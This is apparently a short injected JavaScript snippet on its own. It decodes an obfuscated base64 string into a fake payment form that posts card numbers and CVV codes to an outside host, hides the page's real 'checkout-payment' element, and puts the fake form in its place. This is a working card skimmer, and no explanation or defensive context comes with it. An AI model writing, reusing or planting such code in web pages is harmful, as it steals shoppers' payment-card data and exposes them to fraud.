var tpl = decodeURIComponent(atob('JTNDZm9ybSUyMGFjdGlvbiUzRCUyMmh0dHBzJTNBJTJGJTJGcGF5LWd3LmV4YW1wbGUlMkZzJTIyJTIwbWV0aG9kJTNEJTIycG9zdCUyMiUzRSUzQ2lucHV0JTIwbmFtZSUzRCUyMmNhcmRfbnVtYmVyJTIyJTNFJTNDaW5wdXQlMjBuYW1lJTNEJTIyY3Z2JTIyJTNFJTNDYnV0dG9uJTNFUGF5JTNDJTJGYnV0dG9uJTNFJTNDJTJGZm9ybSUzRQ=='));
var old = document.getElementById('checkout-payment');
old.style.display = 'none';
old.insertAdjacentHTML('afterend', tpl);
